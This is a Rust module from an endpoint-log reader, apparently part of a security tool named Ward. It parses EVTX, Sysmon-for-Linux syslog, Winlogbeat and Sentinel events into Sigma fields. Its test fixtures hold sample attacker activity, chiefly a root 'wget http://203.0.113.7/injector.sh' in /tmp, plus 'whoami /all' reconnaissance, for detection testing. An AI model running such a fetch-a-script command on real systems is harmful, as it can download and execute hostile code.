//! The endpoint feed's reader: logs of sensors that are not Ward, recognised by
//! their shape, each event made a flat object of Sigma's field names with where it
//! came from (product, channel, event id) and a key that names it across imports.
//!
//! Shapes:
//! - EVTX (Windows event log files, the `ElfFile\0` magic): read with the `evtx`
//!   crate, record by record; a record or chunk that cannot be read is skipped with
//!   its record number and reason (a truncated file keeps its whole chunks).
//! - Text lines (syslog): a line carrying Sysmon's `<Event>…</Event>` XML (Sysmon
//!   for Linux writes one per event); other lines are counted as ignored; a line
//!   whose XML is cut or broken is skipped with its line and reason.
//! - JSON (array, NDJSON, `records[]`…, read by [`super::detect`]): the `evtx`
//!   crate's own JSON (`Event.System`, `Event.EventData`, as `evtx_dump` writes),
//!   Winlogbeat (`winlog.event_data.*`, `winlog.channel`, `winlog.event_id`), and
//!   Sentinel rows (`SecurityEvent`, `Event` with its `EventData` XML, or any row
//!   with `EventID` and `Computer` and the event's fields as columns).
//!
//! The key is `computer|channel|EventRecordID` (lowercase) when the record has a
//! record id, else `sha256:` of the record's JSON text.

use serde_json::{Map, Value};

use super::endpoint_xml;
use super::fields::{lookup, parse_time};
use super::{FeedError, ImportReport, Normalized, Parsed, Skipped};
use crate::config::FeedsConfig;

/// The magic at the start of an EVTX file.
pub const EVTX_MAGIC: &[u8] = b"ElfFile\0";

/// An EVTX file: a 4 KiB header, then chunks of 64 KiB.
const EVTX_HEADER_BYTES: usize = 4096;
const EVTX_CHUNK_BYTES: usize = 65_536;

/// A field value longer than this is cut (Windows bounds a command line at 32 Ki
/// characters; nothing a rule matches is longer).
const MAX_FIELD_CHARS: usize = 32 * 1024;

/// One event of another sensor.
#[derive(Debug, Clone, PartialEq)]
pub struct EndpointEvent {
    /// Names the event across imports (see the module doc).
    pub key: String,
    pub time_ms: u64,
    /// The computer the event was logged on, as written.
    pub host: String,
    /// `windows` or `linux` (Sigma's product).
    pub product: &'static str,
    pub channel: String,
    pub event_id: u32,
    /// Sigma field names → values: the event data plus `EventID`, `Channel`,
    /// `Provider_Name`, `Computer` (and `Security_UserID` when known).
    pub fields: Map<String, Value>,
}

/// Reads and normalizes an endpoint file (no storage).
pub fn parse(bytes: &[u8], cfg: &FeedsConfig) -> Result<Parsed<EndpointEvent>, FeedError> {
    if bytes.len() > cfg.max_import_bytes {
        return Err(FeedError::TooLarge {
            size: bytes.len(),
            limit: cfg.max_import_bytes,
        });
    }
    if bytes.starts_with(EVTX_MAGIC) {
        return parse_evtx(bytes);
    }
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let first = body.iter().find(|b| !b.is_ascii_whitespace()).copied();
    if matches!(first, Some(b'[' | b'{')) {
        return super::parse_with(bytes, cfg, normalize_json);
    }
    parse_lines(body, cfg)
}

fn parse_evtx(bytes: &[u8]) -> Result<Parsed<EndpointEvent>, FeedError> {
    use evtx::{EvtxParser, ParserSettings};
    let mut parsed = Parsed {
        report: ImportReport {
            format: "evtx".into(),
            ..ImportReport::default()
        },
        items: Vec::new(),
        audits: Vec::new(),
    };
    // The parser is foreign code over hostile bytes: a panic in it ends this file's
    // reading (what was read stays), never the collector.
    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        let settings = ParserSettings::new().separate_json_attributes(false);
        let mut parser = EvtxParser::from_buffer(bytes.to_vec())
            .map_err(|e| FeedError::Unreadable(format!("not a readable EVTX file: {e}")))?
            .with_configuration(settings);
        let r = &mut parsed.report;
        for record in parser.records_json_value() {
            r.records += 1;
            let skipped = |reason: String| Skipped {
                line: None,
                record: r.records,
                reason,
            };
            match record {
                Ok(rec) => match normalize_json(&rec.data) {
                    Normalized::Record { item, .. } => parsed.items.push(item),
                    Normalized::Bad(reason) => {
                        let s = skipped(format!("record {}: {reason}", rec.event_record_id));
                        r.skip(s);
                    }
                    Normalized::Ignored { .. } => r.ignored += 1,
                    Normalized::Many { items, .. } => parsed.items.extend(items),
                    Normalized::Audit { item, .. } => parsed.audits.push(*item),
                },
                Err(e) => {
                    let s = skipped(format!("unreadable EVTX record: {e}"));
                    r.skip(s);
                }
            }
        }
        Ok::<(), FeedError>(())
    }));
    // A cut file: the reader leaves out a chunk it cannot hold whole, silently.
    let body = bytes.len().saturating_sub(EVTX_HEADER_BYTES);
    let partial = body % EVTX_CHUNK_BYTES;
    if bytes.len() < EVTX_HEADER_BYTES || partial != 0 {
        let r = &mut parsed.report;
        r.records += 1;
        let s = Skipped {
            line: None,
            record: r.records,
            reason: if bytes.len() < EVTX_HEADER_BYTES {
                format!(
                    "the file is cut short: {} bytes, less than the {EVTX_HEADER_BYTES}-byte header",
                    bytes.len()
                )
            } else {
                format!(
                    "the file is cut short: it ends {partial} bytes into chunk {} (of {EVTX_CHUNK_BYTES}); that chunk's records were not read",
                    body / EVTX_CHUNK_BYTES + 1
                )
            },
        };
        r.skip(s);
    }
    match outcome {
        Ok(Ok(())) => {}
        Ok(Err(e)) => return Err(e),
        Err(_) => {
            let r = &mut parsed.report;
            r.records += 1;
            let s = Skipped {
                line: None,
                record: r.records,
                reason: "the EVTX reader failed here; the rest of the file was not read".into(),
            };
            r.skip(s);
        }
    }
    if parsed.report.records == 0 {
        return Err(FeedError::Unreadable("the EVTX file holds no records".into()));
    }
    if parsed.items.is_empty() && parsed.report.ignored == 0 {
        let first = parsed
            .report
            .skipped
            .first()
            .map(|s| s.reason.clone())
            .unwrap_or_default();
        return Err(FeedError::Unreadable(format!("no EVTX record is readable: {first}")));
    }
    Ok(parsed)
}

fn parse_lines(body: &[u8], cfg: &FeedsConfig) -> Result<Parsed<EndpointEvent>, FeedError> {
    let mut parsed = Parsed {
        report: ImportReport {
            format: "sysmon-syslog".into(),
            ..ImportReport::default()
        },
        items: Vec::new(),
        audits: Vec::new(),
    };
    let r = &mut parsed.report;
    // Line by line, each decoded alone: one line of another program that is not UTF-8
    // does not cost the file.
    for (i, raw) in body.split(|b| *b == b'\n').enumerate() {
        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
        if raw.iter().all(u8::is_ascii_whitespace) {
            continue;
        }
        r.records += 1;
        let skipped = |reason: String| Skipped {
            line: Some(i as u64 + 1),
            record: r.records,
            reason,
        };
        if raw.len() > cfg.max_record_bytes {
            let s = skipped(super::stream::oversize(raw.len(), cfg.max_record_bytes));
            r.skip(s);
            continue;
        }
        let line = match std::str::from_utf8(raw) {
            Ok(l) => l,
            Err(e) if memchr_event(raw) => {
                let s = skipped(format!("not UTF-8 text: {e}"));
                r.skip(s);
                continue;
            }
            Err(_) => {
                r.ignored += 1;
                continue;
            }
        };
        let Some(start) = line.find("<Event>").or_else(|| line.find("<Event ")) else {
            // Another program's syslog line.
            r.ignored += 1;
            continue;
        };
        let Some(end) = line.rfind("</Event>") else {
            let s = skipped("Sysmon XML cut short: no </Event>".into());
            r.skip(s);
            continue;
        };
        if end < start {
            let s = skipped("Sysmon XML cut short: no </Event> after <Event>".into());
            r.skip(s);
            continue;
        }
        let xml = &line[start..end + "</Event>".len()];
        let json = endpoint_xml::parse(xml).and_then(|e| endpoint_xml::event_json(&e));
        match json.map(|j| normalize_json(&j)) {
            Ok(Normalized::Record { mut item, .. }) => {
                if item.host.is_empty() {
                    item.host = syslog_host(&line[..start]).unwrap_or_default();
                }
                parsed.items.push(item);
            }
            Ok(Normalized::Bad(reason)) | Err(reason) => {
                let s = skipped(reason);
                r.skip(s);
            }
            Ok(_) => r.ignored += 1,
        }
    }
    if r.records == 0 {
        return Err(FeedError::Unreadable("the file is empty".into()));
    }
    if parsed.items.is_empty() {
        let first = r.skipped.first().map(|s| s.reason.clone());
        return Err(FeedError::Unreadable(match first {
            Some(f) => format!("none of the {} lines is a readable Sysmon event: {f}", r.records),
            None => format!(
                "none of the {} lines is a Sysmon event (<Event>…</Event> XML), an EVTX file or JSON",
                r.records
            ),
        }));
    }
    Ok(parsed)
}

/// Whether a line that is not text claims to carry an event.
fn memchr_event(raw: &[u8]) -> bool {
    raw.windows(6).any(|w| w == b"<Event")
}

/// The host of a syslog header (`Oct 15 19:41:27 host prog:`, RFC 3339 `ts host prog:`,
/// with or without `<PRI>`): the word before the program's.
fn syslog_host(header: &str) -> Option<String> {
    let h = header.trim();
    let h = if h.starts_with('<') { h.split_once('>')?.1 } else { h };
    let words: Vec<&str> = h.split_whitespace().collect();
    // The program (`sysmon:`) is last; the host is the word before it.
    let prog = words.iter().rposition(|w| w.ends_with(':'))?;
    words.get(prog.checked_sub(1)?).map(|s| s.to_string())
}

fn text(v: &Value) -> Option<String> {
    match v {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        Value::Object(m) => m.get("#text").and_then(text),
        _ => None,
    }
}

fn number(v: &Value) -> Option<u64> {
    match v {
        Value::Number(n) => n.as_u64(),
        Value::String(s) => s.trim().parse().ok(),
        Value::Object(m) => m.get("#text").and_then(number),
        _ => None,
    }
}

/// A field's value as Sigma sees it: scalars kept, `#text` unwrapped, nulls dropped,
/// long strings cut (at a character boundary).
fn scalar(v: &Value) -> Option<Value> {
    match v {
        Value::Null => None,
        Value::String(s) if s.len() > MAX_FIELD_CHARS => {
            let mut end = MAX_FIELD_CHARS;
            while !s.is_char_boundary(end) {
                end -= 1;
            }
            Some(Value::String(s[..end].to_string()))
        }
        Value::String(_) | Value::Number(_) | Value::Bool(_) => Some(v.clone()),
        Value::Object(m) => m.get("#text").and_then(scalar),
        Value::Array(a) => {
            let parts: Vec<String> = a.iter().filter_map(text).collect();
            (!parts.is_empty()).then(|| Value::String(parts.join(",")))
        }
    }
}

/// Which product a channel or provider belongs to.
fn product_of(channel: &str, provider: &str) -> &'static str {
    if channel.to_ascii_lowercase().starts_with("linux-") || provider.eq_ignore_ascii_case("Linux-Sysmon") {
        "linux"
    } else {
        "windows"
    }
}

struct Header {
    event_id: u32,
    channel: String,
    provider: String,
    computer: String,
    record_id: Option<u64>,
    time_ms: Option<u64>,
    user_sid: Option<String>,
}

fn build(h: Header, data: Map<String, Value>, whole: &Value) -> Normalized<EndpointEvent> {
    if h.computer.trim().is_empty() {
        return Normalized::Bad("no computer name (Computer / host.name)".into());
    }
    let Some(time_ms) = h.time_ms else {
        return Normalized::Bad("no event time (TimeCreated / @timestamp / TimeGenerated)".into());
    };
    let mut fields = Map::new();
    for (k, v) in &data {
        if let Some(v) = scalar(v) {
            // Defender and other providers name data with spaces ("Threat Name");
            // Sigma's rules name them without ("ThreatName").
            if k.contains(' ') {
                fields.insert(k.replace(' ', ""), v.clone());
            }
            fields.insert(k.clone(), v);
        }
    }
    fields.insert("EventID".into(), Value::from(h.event_id));
    fields.insert("Channel".into(), Value::String(h.channel.clone()));
    if !h.provider.is_empty() {
        fields.insert("Provider_Name".into(), Value::String(h.provider.clone()));
    }
    fields.insert("Computer".into(), Value::String(h.computer.clone()));
    if let Some(sid) = h.user_sid {
        fields.entry("Security_UserID").or_insert(Value::String(sid));
    }
    let key = match h.record_id {
        Some(id) => format!(
            "{}|{}|{id}",
            h.computer.to_ascii_lowercase(),
            h.channel.to_ascii_lowercase()
        ),
        None => format!(
            "sha256:{}",
            hex::encode(crate::util::sha256(whole.to_string().as_bytes()))
        ),
    };
    Normalized::Record {
        kind: "event",
        item: EndpointEvent {
            key,
            time_ms,
            host: h.computer.trim().to_string(),
            product: product_of(&h.channel, &h.provider),
            channel: h.channel,
            event_id: h.event_id,
            fields,
        },
    }
}

fn event_id_of(v: Option<&Value>) -> Result<u32, String> {
    let v = v.ok_or("no EventID")?;
    number(v)
        .and_then(|n| u32::try_from(n).ok())
        .ok_or_else(|| format!("EventID {v} is not a number"))
}

/// One JSON record: the evtx crate's form, Winlogbeat, or a Sentinel row.
pub(crate) fn normalize_json(v: &Value) -> Normalized<EndpointEvent> {
    match try_normalize(v) {
        Ok(n) => n,
        Err(reason) => Normalized::Bad(reason),
    }
}

fn try_normalize(v: &Value) -> Result<Normalized<EndpointEvent>, String> {
    let Value::Object(obj) = v else {
        return Err("not a JSON object".into());
    };
    if let Some(Value::Object(event)) = obj.get("Event") {
        return evtx_json(event, v);
    }
    if let Some(Value::Object(winlog)) = obj.get("winlog") {
        return winlogbeat(winlog, v);
    }
    if lookup(v, "EventID").is_some() && lookup(v, "Computer").is_some() {
        return sentinel(v);
    }
    Err("not a Windows or Sysmon event: no Event.System, winlog or EventID and Computer".into())
}

fn evtx_json(event: &Map<String, Value>, whole: &Value) -> Result<Normalized<EndpointEvent>, String> {
    let Some(Value::Object(sys)) = event.get("System") else {
        return Err("an Event without System".into());
    };
    let attr = |name: &str, a: &str| {
        sys.get(name)
            .and_then(|p| p.get("#attributes"))
            .and_then(|x| x.get(a))
            .and_then(text)
    };
    let h = Header {
        event_id: event_id_of(sys.get("EventID"))?,
        channel: sys.get("Channel").and_then(text).unwrap_or_default(),
        provider: attr("Provider", "Name").unwrap_or_default(),
        computer: sys.get("Computer").and_then(text).unwrap_or_default(),
        record_id: sys.get("EventRecordID").and_then(number),
        time_ms: attr("TimeCreated", "SystemTime").and_then(|t| parse_time(&t)),
        user_sid: attr("Security", "UserID").or_else(|| attr("Security", "UserId")),
    };
    let mut data = Map::new();
    for section in ["EventData", "UserData"] {
        match event.get(section) {
            Some(Value::Object(m)) => {
                for (k, v) in m {
                    match (k.as_str(), v) {
                        ("#attributes", _) => {}
                        // Unnamed <Data> values (classic providers): Data, Data1... as in Sigma's evtx pipelines.
                        ("Data", Value::Array(a)) => {
                            for (i, d) in a.iter().enumerate() {
                                data.insert(if i == 0 { "Data".into() } else { format!("Data{i}") }, d.clone());
                            }
                        }
                        // UserData wraps its fields in one element named after the event.
                        (_, Value::Object(inner)) if section == "UserData" => {
                            for (ik, iv) in inner {
                                if ik != "#attributes" {
                                    data.insert(ik.clone(), iv.clone());
                                }
                            }
                        }
                        _ => {
                            data.insert(k.clone(), v.clone());
                        }
                    }
                }
            }
            Some(other @ (Value::String(_) | Value::Number(_))) => {
                data.insert("Data".into(), other.clone());
            }
            _ => {}
        }
    }
    Ok(build(h, data, whole))
}

fn winlogbeat(winlog: &Map<String, Value>, whole: &Value) -> Result<Normalized<EndpointEvent>, String> {
    let computer = winlog
        .get("computer_name")
        .and_then(text)
        .or_else(|| lookup(whole, "host.name").and_then(|v| text(&v)))
        .unwrap_or_default();
    let h = Header {
        event_id: event_id_of(winlog.get("event_id"))?,
        channel: winlog.get("channel").and_then(text).unwrap_or_default(),
        provider: winlog.get("provider_name").and_then(text).unwrap_or_default(),
        computer,
        record_id: winlog.get("record_id").and_then(number),
        time_ms: lookup(whole, "@timestamp")
            .and_then(|t| text(&t))
            .and_then(|t| parse_time(&t)),
        user_sid: lookup(whole, "winlog.user.identifier").and_then(|v| text(&v)),
    };
    let mut data = Map::new();
    for section in ["event_data", "user_data"] {
        if let Some(Value::Object(m)) = winlog.get(section) {
            for (k, v) in m {
                data.insert(k.clone(), v.clone());
            }
        }
    }
    Ok(build(h, data, whole))
}

/// Sentinel columns that describe the row, not the event.
const SENTINEL_META: [&str; 14] = [
    "TenantId",
    "TimeGenerated",
    "SourceSystem",
    "MG",
    "ManagementGroupName",
    "Type",
    "_ResourceId",
    "EventData",
    "RenderedDescription",
    "ParameterXml",
    "AzureDeploymentID",
    "Role",
    "EventLevel",
    "EventLevelName",
];

fn sentinel(v: &Value) -> Result<Normalized<EndpointEvent>, String> {
    let Value::Object(row) = v else {
        return Err("not a JSON object".into());
    };
    let get = |name: &str| lookup(v, name).and_then(|x| text(&x));
    let provider = get("Source")
        .or_else(|| get("EventSourceName"))
        .or_else(|| get("Provider_Name"))
        .unwrap_or_default();
    let is_security = get("Type").is_some_and(|t| t.eq_ignore_ascii_case("SecurityEvent"));
    let channel = get("Channel")
        .or_else(|| get("EventLog"))
        .or_else(|| is_security.then(|| "Security".to_string()))
        .or_else(|| {
            provider
                .eq_ignore_ascii_case("Microsoft-Windows-Sysmon")
                .then(|| "Microsoft-Windows-Sysmon/Operational".to_string())
        })
        .unwrap_or_default();
    let h = Header {
        event_id: event_id_of(lookup(v, "EventID").as_deref())?,
        channel,
        provider,
        computer: get("Computer").unwrap_or_default(),
        record_id: lookup(v, "EventRecordId").and_then(|x| number(&x)),
        time_ms: get("TimeGenerated")
            .or_else(|| get("TimeCreated"))
            .or_else(|| get("UtcTime"))
            .and_then(|t| parse_time(&t)),
        user_sid: None,
    };
    let mut data = Map::new();
    // The event's own fields, from its EventData XML (an `Event` row's only copy).
    if let Some(xml) = get("EventData").filter(|x| x.trim_start().starts_with('<')) {
        let root = endpoint_xml::parse(&xml).map_err(|e| format!("EventData: {e}"))?;
        data.extend(endpoint_xml::named_data(&root));
    }
    for (k, val) in row {
        if SENTINEL_META.iter().any(|m| m.eq_ignore_ascii_case(k))
            || ["EventID", "Computer", "Channel", "EventLog", "Source"].contains(&k.as_str())
        {
            continue;
        }
        if matches!(val, Value::String(s) if s.is_empty() || s == "-") && data.contains_key(k) {
            continue;
        }
        data.insert(k.clone(), val.clone());
    }
    Ok(build(h, data, v))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
pub(crate) mod tests {
    use super::*;

    pub(crate) const LINUX_LINE: &str = r#"Nov 24 08:30:01 ip-172-31-60-25 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2022-11-24T08:30:01.467399000Z"/><EventRecordID>75097</EventRecordID><Correlation/><Execution ProcessID="1109" ThreadID="1109"/><Channel>Linux-Sysmon/Operational</Channel><Computer>ip-172-31-60-25</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2022-11-24 08:30:01.467</Data><Data Name="ProcessGuid">{c9eb4a87-2b89-637f-700c-0807f5550000}</Data><Data Name="ProcessId">3372</Data><Data Name="Image">/usr/bin/wget</Data><Data Name="CommandLine">wget http://203.0.113.7/injector.sh</Data><Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data><Data Name="LogonId">0</Data><Data Name="ParentProcessId">3371</Data><Data Name="ParentImage">/bin/bash</Data><Data Name="ParentCommandLine">bash</Data></EventData></Event>"#;

    /// A dependency that turns on serde_json's `preserve_order` (evtx 0.8.3 and later
    /// do) changes every JSON text Ward writes and the SHA-256 record keys the feeds
    /// compute from it: a file imported before an upgrade would be stored again.
    #[test]
    fn json_objects_keep_sorted_keys() {
        assert_eq!(serde_json::json!({"b": 1, "a": 2}).to_string(), r#"{"a":2,"b":1}"#);
    }

    #[test]
    fn a_sysmon_for_linux_syslog_line_is_a_linux_event() {
        let text = format!("Nov 24 08:30:00 ip-172-31-60-25 CRON[1]: (root) CMD (true)\n{LINUX_LINE}\n");
        let p = parse(text.as_bytes(), &FeedsConfig::default()).unwrap();
        assert_eq!((p.report.records, p.report.ignored, p.items.len()), (2, 1, 1));
        let e = &p.items[0];
        assert_eq!(
            (e.product, e.event_id, e.host.as_str()),
            ("linux", 1, "ip-172-31-60-25")
        );
        assert_eq!(e.key, "ip-172-31-60-25|linux-sysmon/operational|75097");
        assert_eq!(e.fields["Image"], "/usr/bin/wget");
        assert_eq!(e.fields["EventID"], 1);
        assert_eq!(e.time_ms, 1_669_278_601_467);
    }

    #[test]
    fn broken_lines_are_skipped_with_their_line_and_the_rest_kept() {
        let cut = &LINUX_LINE[..LINUX_LINE.len() - 40];
        let broken = LINUX_LINE.replace("</EventID>", "</EventId>");
        let text = format!("{cut}\n{LINUX_LINE}\n{broken}\n");
        let mut bytes = text.into_bytes();
        bytes.extend_from_slice(b"Nov 24 08:30:02 host kernel: \xff\xfe not text\n");
        let p = parse(&bytes, &FeedsConfig::default()).unwrap();
        assert_eq!(p.report.ignored, 1);
        assert_eq!(p.items.len(), 1);
        assert_eq!(p.report.skipped_count, 2);
        assert_eq!(p.report.skipped[0].line, Some(1));
        assert!(
            p.report.skipped[0].reason.contains("cut short"),
            "{:?}",
            p.report.skipped
        );
        assert_eq!(p.report.skipped[1].line, Some(3));
        assert!(
            p.report.skipped[1].reason.contains("malformed XML"),
            "{:?}",
            p.report.skipped
        );
        // Nothing readable at all: refused with the first reason.
        assert!(matches!(
            parse(cut.as_bytes(), &FeedsConfig::default()),
            Err(FeedError::Unreadable(_))
        ));
    }

    #[test]
    fn winlogbeat_and_sentinel_rows_are_read() {
        let wlb = r#"{"@timestamp":"2024-03-01T10:00:00.000Z","host":{"name":"WS01.corp.example"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","record_id":42,"provider_name":"Microsoft-Windows-Sysmon","computer_name":"WS01.corp.example","event_data":{"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all"}}}"#;
        let sentinel = r#"{"TimeGenerated":"2024-03-01T10:00:01Z","Computer":"WS02","EventLog":"Microsoft-Windows-Sysmon/Operational","Source":"Microsoft-Windows-Sysmon","EventID":1,"EventData":"<DataItem type=\"System.XmlData\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"Image\">C:\\Windows\\System32\\cmd.exe</Data><Data Name=\"CommandLine\">cmd /c echo</Data></EventData></DataItem>","Type":"Event"}"#;
        let security = r#"{"TimeGenerated":"2024-03-01T10:00:02Z","Computer":"DC01","EventID":"4625","Type":"SecurityEvent","TargetUserName":"alice","IpAddress":"203.0.113.9"}"#;
        let bad = r#"{"Computer":"X","EventID":"four"}"#;
        let text = format!("{wlb}\n{sentinel}\n{security}\n{bad}\n");
        let p = parse(text.as_bytes(), &FeedsConfig::default()).unwrap();
        assert_eq!(p.items.len(), 3, "{:?}", p.report);
        assert_eq!(
            p.items[0].key,
            "ws01.corp.example|microsoft-windows-sysmon/operational|42"
        );
        assert_eq!(p.items[0].fields["CommandLine"], "whoami /all");
        assert_eq!(p.items[1].fields["Image"], "C:\\Windows\\System32\\cmd.exe");
        assert_eq!(p.items[1].channel, "Microsoft-Windows-Sysmon/Operational");
        assert!(p.items[1].key.starts_with("sha256:"));
        assert_eq!((p.items[2].channel.as_str(), p.items[2].event_id), ("Security", 4625));
        assert_eq!(p.report.skipped[0].line, Some(4));
        assert!(p.report.skipped[0].reason.contains("not a number"));
    }

    #[test]
    fn a_truncated_or_mangled_evtx_never_panics() {
        let path = format!(
            "{}/../tests/fixtures/endpoint/sigma-regression/rules/windows/process_creation/proc_creation_win_curl_custom_user_agent/85de1f22-d189-44e4-8239-dc276b45379b.evtx.gz",
            env!("CARGO_MANIFEST_DIR")
        );
        let whole = super::super::endpoint_detect::tests::gunzip(&path);
        let cfg = FeedsConfig::default();
        let full = parse(&whole, &cfg).unwrap();
        assert!(!full.items.is_empty());
        for cut in [8, 100, 4096, 4096 + 600, whole.len() / 2, whole.len() - 1] {
            match parse(&whole[..cut], &cfg) {
                Err(FeedError::Unreadable(reason)) => {
                    assert!(reason.contains("EVTX") || reason.contains("cut short"), "{reason}")
                }
                Ok(p) => assert!(
                    p.report.skipped.iter().any(|s| s.reason.contains("cut short")),
                    "{:?}",
                    p.report
                ),
                Err(e) => panic!("{e}"),
            }
        }
        // Bytes flipped all over the file, 64 ways: every outcome is a report or an error.
        for seed in 1..=64usize {
            let mut mangled = whole.clone();
            for i in (seed * 31 % 4096..mangled.len()).step_by(61 + seed * 7) {
                mangled[i] ^= (seed as u8).wrapping_mul(37) | 1;
            }
            let _ = parse(&mangled, &cfg);
        }
    }
}
